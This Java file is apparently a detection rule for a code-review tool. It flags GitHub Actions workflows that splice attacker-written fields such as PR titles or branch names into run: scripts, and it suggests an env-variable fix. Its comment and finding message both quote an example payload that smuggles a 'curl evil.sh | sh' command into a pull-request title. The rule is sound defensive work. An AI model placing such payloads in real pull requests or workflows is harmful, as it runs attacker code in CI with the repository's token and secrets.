package dev.srereview.evidence.ci;

import dev.srereview.context.FileKind;
import dev.srereview.context.RepoSnapshot;
import dev.srereview.context.SourceFile;
import dev.srereview.evidence.Category;
import dev.srereview.evidence.FileRules;
import dev.srereview.evidence.Finding;
import dev.srereview.evidence.Severity;
import dev.srereview.evidence.common.Indent;
import dev.srereview.evidence.common.Snippets;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * CI workflows (GitHub Actions and its Gitea/Forgejo kin): text that whoever opens a pull request or an issue writes,
 * expanded by {@code ${{ }}} straight into a {@code run:} script (shell-injection). The runner substitutes it before
 * the shell reads the script, so a PR titled {@code x"; curl evil.sh | sh; "} runs with the workflow's token, and
 * on {@code pull_request_target} with the repository's secrets.
 */
public final class WorkflowRules implements FileRules {
    /** Fields an outsider writes: titles, bodies, comments, commit messages, branch names. */
    private static final Pattern UNTRUSTED = Pattern.compile("\\$\\{\\{\\s*(github\\.head_ref|github\\.event\\."
            + "(issue\\.(title|body)|pull_request\\.(title|body|head\\.ref|head\\.label)|comment\\.body|review\\.body"
            + "|review_comment\\.body|discussion\\.(title|body)|head_commit\\.(message|author\\.(name|email))"
            + "|commits\\[?[^}]*\\.message|workflow_run\\.head_branch))\\s*}}");
    private static final Pattern RUN_KEY = Pattern.compile("^(\\s*)(-\\s+)?run:\\s*(.*)$");

    @Override
    public String name() {
        return "ci";
    }

    @Override
    public List<Finding> analyze(RepoSnapshot snapshot) {
        List<Finding> out = new ArrayList<>();
        for (SourceFile f : snapshot.files()) {
            if (f.kind() == FileKind.CI_WORKFLOW && f.content().contains("${{")) {
                check(f, out);
            }
        }
        return out;
    }

    private static void check(SourceFile f, List<Finding> out) {
        List<String> lines = f.lines();
        int runIndent = -1; // the indentation of the run: key whose block script the lines belong to, or -1
        for (int i = 0; i < lines.size(); i++) {
            String line = lines.get(i);
            int indent = Indent.of(line);
            boolean blank = line.isBlank();
            if (runIndent >= 0 && !blank && indent <= runIndent) {
                runIndent = -1; // the script block ended
            }
            Matcher run = RUN_KEY.matcher(line);
            String script = null;
            if (run.matches()) {
                // `- run: |` sits at the list dash: its block is indented past the key itself
                int keyIndent = run.group(1).length() + (run.group(2) == null ? 0 : run.group(2).length());
                String rest = run.group(3).strip();
                if (rest.isEmpty() || rest.startsWith("|") || rest.startsWith(">")) {
                    runIndent = keyIndent;
                    continue;
                }
                script = rest;
            } else if (runIndent >= 0) {
                script = line;
            }
            if (script == null) {
                continue;
            }
            Matcher m = UNTRUSTED.matcher(script);
            if (m.find()) {
                String field = m.group(1);
                out.add(new Finding("CI-SHELL-001", Category.SHELL_INJECTION, Severity.P1, f.path(), i + 1,
                        "`${{ " + field + " }}` is expanded into this run script before the shell reads it: whoever "
                                + "opens the pull request or issue writes that text, so a title like `x\"; curl "
                                + "https://evil.sh | sh; \"` runs in CI with the workflow's token (and with the "
                                + "repository's secrets under pull_request_target).",
                        Snippets.line(f, i + 1),
                        "env:\n  TITLE: ${{ " + field + " }}\nrun: echo \"Building: $TITLE\"   # the shell quotes a "
                                + "variable; the expression is never spliced into the script"));
            }
        }
    }

}
